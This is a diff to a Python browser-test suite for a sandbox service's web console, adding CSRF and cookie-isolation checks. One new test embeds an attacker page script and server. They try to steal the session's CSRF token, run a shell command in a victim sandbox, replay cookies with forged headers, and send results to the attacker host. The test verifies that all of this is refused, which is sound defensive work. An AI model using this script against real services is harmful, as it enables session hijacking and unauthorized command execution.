@@ -7,9 +7,13 @@ more than one colour, and the page's text is checked for what the screenshot sho
 from __future__ import annotations
 
 import base64
+import json
 import os
 import re
 import struct
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Dict, Iterator
 
@@ -93,6 +97,16 @@ def sign_in(page, svc: Service) -> None:
     page.wait_for_selector("#page-sandboxes:not([hidden])")
 
 
+def cookie_name(svc: Service) -> str:
+    """The session cookie's name: it carries the service's port."""
+    return f"bbx_session_{svc.port}"
+
+
+def page_csrf(page) -> str:
+    """The session's CSRF token as the console's page keeps it (sign-in hands it out once)."""
+    return page.evaluate("sessionStorage.getItem('bbx_csrf')")
+
+
 def in_page(page, method: str, path: str, csrf: object) -> int:
     """The status of a request the page itself sends (with its cookie), with `csrf` as the
     X-CSRF-Token header (`None`: without one)."""
@@ -120,7 +134,7 @@ def test_console_signs_in_branches_and_signs_out(service: Service, browser, tmp_
 
     # Sign in: the cookie holds a session id, not the token, out of the page's reach.
     sign_in(page, service)
-    cookie = next(c for c in page.context.cookies() if c["name"] == "bbx_session")
+    cookie = next(c for c in page.context.cookies() if c["name"] == cookie_name(service))
     assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and service.token not in cookie["value"]
     assert page.evaluate("document.cookie") == ""
     page.wait_for_selector(f'#sandboxes-table tr[data-id="{a}"]', timeout=WAIT_MS)
@@ -211,16 +225,20 @@ def test_console_signs_in_branches_and_signs_out(service: Service, browser, tmp_
     page.wait_for_selector(f'#sandboxes-table tr[data-id="{children[0]}"]', state="detached", timeout=WAIT_MS)
     assert api.get(f"/v1/sandboxes/{children[0]}").status_code == 404
 
-    # State changes need the session's CSRF token; without the cookie there is no session.
+    # Every request with the cookie needs the session's CSRF token; without the cookie there is
+    # no session.
     timeout_path = f"/v1/sandboxes/{a}/timeout"
-    csrf = page.evaluate("fetch('/ui/api/session').then(r => r.json()).then(s => s.csrf)")
+    csrf = page_csrf(page)
+    assert re.fullmatch(r"[0-9a-f]{64}", csrf or ""), csrf
     assert in_page(page, "POST", timeout_path, None) == 403
     assert in_page(page, "POST", timeout_path, "00" * 32) == 403
     assert in_page(page, "POST", timeout_path, csrf) == 200
-    jar = {"bbx_session": cookie["value"]}
+    jar = {cookie_name(service): cookie["value"]}
     with httpx.Client(base_url=service.url, cookies=jar) as raw:
         assert raw.post(timeout_path, json={"timeout": 300}, headers={"x-csrf-token": csrf[::-1]}).status_code == 403
-        assert raw.get("/v1/sandboxes").status_code == 200
+        assert raw.get("/v1/sandboxes").status_code == 403
+        assert raw.get("/ui/api/session").status_code == 403
+        assert raw.get("/v1/sandboxes", headers={"x-csrf-token": csrf}).status_code == 200
     assert httpx.post(service.url + timeout_path, json={"timeout": 300}, headers={"x-csrf-token": csrf}).status_code == 401
 
     # Sign out ends the session: the page and the old cookie are both refused.
@@ -351,10 +369,11 @@ def test_console_terminal_runs_a_shell_in_the_sandbox(service: Service, browser,
 
     # The handshake, from outside the page: the cookie alone (no CSRF token, or a wrong one)
     # is refused; a GET that is no WebSocket handshake is told what to do.
-    cookie = next(k for k in page.context.cookies() if k["name"] == "bbx_session")["value"]
-    csrf = page.evaluate("fetch('/ui/api/session').then((r) => r.json()).then((s) => s.csrf)")
+    name = cookie_name(service)
+    cookie = next(k for k in page.context.cookies() if k["name"] == name)["value"]
+    csrf = page_csrf(page)
     upgrade = {"connection": "upgrade", "upgrade": "websocket", "sec-websocket-version": "13",
-               "sec-websocket-key": base64.b64encode(os.urandom(16)).decode(), "cookie": f"bbx_session={cookie}"}
+               "sec-websocket-key": base64.b64encode(os.urandom(16)).decode(), "cookie": f"{name}={cookie}"}
     url = service.url + f"/v1/sandboxes/{c}/pty"
     for q in [{}, {"csrf": "0" * 64}]:
         r = httpx.get(url, params=q, headers=upgrade)
@@ -427,7 +446,7 @@ def test_lineage_of_a_thousand_nodes_opens_lazily(service: Service, browser, tmp
     n = 1000
     body = generated_lineage(n)
     page = browser.new_page(viewport=VIEW)
-    page.route("**/ui/api/events", lambda r: r.abort())
+    page.route(re.compile(r"/ui/api/events(\?|$)"), lambda r: r.abort())
     page.route("**/v1/lineage", lambda r: r.fulfill(status=200, content_type="application/json", json=body))
     sign_in(page, service)
     page.goto(service.url + "/ui#/lineage")
@@ -476,3 +495,116 @@ def test_console_requests_without_a_session_are_refused(service: Service) -> Non
         r = httpx.get(service.url + asset)
         assert r.status_code == 200 and len(r.content) > 100, asset
     assert httpx.delete(service.url + "/ui/api/session").status_code == 401
+
+
+ATTACKER_PAGE = """<!doctype html><meta charset="utf-8"><title>another user's page</title>
+<script>
+(async () => {
+  const svc = "%(svc)s", victim = "%(victim)s";
+  const out = { csrf: null, session: null, calls: [] };
+  try {
+    const r = await fetch(svc + "/ui/api/session", { credentials: "include" });
+    const text = await r.text();
+    out.session = r.status + " " + text;
+    try { out.csrf = JSON.parse(text).csrf || null; } catch (_) { /* not JSON */ }
+  } catch (e) { out.session = "refused: " + e; }
+  const run = { cmd: "id > /root/taken-over" };
+  const tries = [
+    ["POST", "/v1/sandboxes/" + victim + "/commands", run, "cors"],
+    ["POST", "/v1/sandboxes/" + victim + "/commands", run, "no-cors"],
+    ["POST", "/v1/sandboxes", {}, "cors"],
+  ];
+  for (const [method, path, body, mode] of tries) {
+    const headers = mode === "cors" ? { "content-type": "application/json" } : { "content-type": "text/plain" };
+    if (out.csrf) headers["x-csrf-token"] = out.csrf;
+    try {
+      const r = await fetch(svc + path, { method, mode, credentials: "include", headers, body: JSON.stringify(body) });
+      out.calls.push([path, mode, r.type === "opaque" ? "opaque" : r.status]);
+    } catch (e) { out.calls.push([path, mode, "refused: " + e]); }
+  }
+  await fetch("/report", { method: "POST", body: JSON.stringify(out) });
+})();
+</script>"""
+
+
+def test_a_page_on_another_loopback_port_gets_no_usable_session(service: Service, browser) -> None:
+    """Another local user's page, served on another port of 127.0.0.1 and opened in the browser
+    signed in to the console, gets no CSRF token and drives nothing: neither its script (with
+    the browser's cookies) nor its server (which the browser hands the 127.0.0.1 cookies to,
+    whatever their port, and which may forge any header) can run a command or start a sandbox."""
+    api = service.client()
+    victim = api.post("/v1/sandboxes", json={"timeout": 600}).json()["id"]
+    before = {s["id"] for s in api.get("/v1/sandboxes").json()}
+    cookies: list = []
+    reports: list = []
+    port_box: list = []
+
+    class Attacker(BaseHTTPRequestHandler):
+        def log_message(self, *args) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            cookies.append(self.headers.get("cookie") or "")
+            body = (ATTACKER_PAGE % {"svc": service.url, "victim": victim}).encode()
+            self.send_response(200)
+            self.send_header("content-type", "text/html; charset=utf-8")
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def do_POST(self) -> None:
+            cookies.append(self.headers.get("cookie") or "")
+            n = int(self.headers.get("content-length") or 0)
+            reports.append(json.loads(self.rfile.read(min(n, 1 << 20)) or b"null"))
+            self.send_response(204)
+            self.end_headers()
+
+    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
+    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    evil = f"http://127.0.0.1:{attacker.server_address[1]}"
+    ctx = browser.new_context(viewport=VIEW)
+    page = ctx.new_page()
+    try:
+        sign_in(page, service)
+        # The other page opens in the same browser, next to the signed-in console.
+        other = ctx.new_page()
+        other.goto(evil + "/")
+        deadline = time.monotonic() + WAIT_MS / 1000
+        while not reports and time.monotonic() < deadline:
+            other.wait_for_timeout(100)
+        assert reports, "the attacker's page never reported"
+        seen = reports[0]
+        # The browser did hand the console's cookie to the other port: that is the premise.
+        assert any("bbx_session" in c for c in cookies), cookies
+        assert seen["csrf"] is None, seen
+        assert not any(isinstance(s, int) and 200 <= s < 300 for _, _, s in seen["calls"]), seen
+
+        # The attacker's server replays every cookie it was given, dressed as the console's own
+        # page would be (no browser stops a program from sending these headers).
+        forged = {"origin": service.url, "sec-fetch-site": "same-origin", "sec-fetch-mode": "cors"}
+        got = []
+        for cookie in {c for c in cookies if c}:
+            with httpx.Client(base_url=service.url, headers={**forged, "cookie": cookie}, timeout=60) as raw:
+                s = raw.get("/ui/api/session")
+                csrf = s.json().get("csrf") if s.status_code == 200 else None
+                got.append(("session", s.status_code, csrf))
+                h = {"x-csrf-token": csrf or "00" * 32}
+                for path, body in [(f"/v1/sandboxes/{victim}/commands", {"cmd": "id > /root/taken-over"}),
+                                   ("/v1/sandboxes", {})]:
+                    got.append((path, raw.post(path, json=body, headers=h).status_code))
+                got.append(("read", raw.get("/v1/sandboxes").status_code))
+        # On the service's side: no sandbox was started and no command ran.
+        after = {s["id"] for s in api.get("/v1/sandboxes").json()}
+        ran = api.get(f"/v1/sandboxes/{victim}/files", params={"path": "/root/taken-over"})
+        assert not any(g[0] == "session" and g[2] for g in got), f"the CSRF token was handed out: {got}"
+        assert all(g[-1] in (401, 403) for g in got if g[0] != "session"), got
+        assert after == before, f"sandboxes started: {after - before}"
+        assert ran.status_code == 404, f"the command ran: {ran.text}"
+        # The console itself still drives the API.
+        playwright_api.expect(page.locator("#live")).to_have_text("live", timeout=WAIT_MS)
+    finally:
+        ctx.close()
+        attacker.shutdown()
+        attacker.server_close()
+        api.delete(f"/v1/sandboxes/{victim}")
+        api.close()
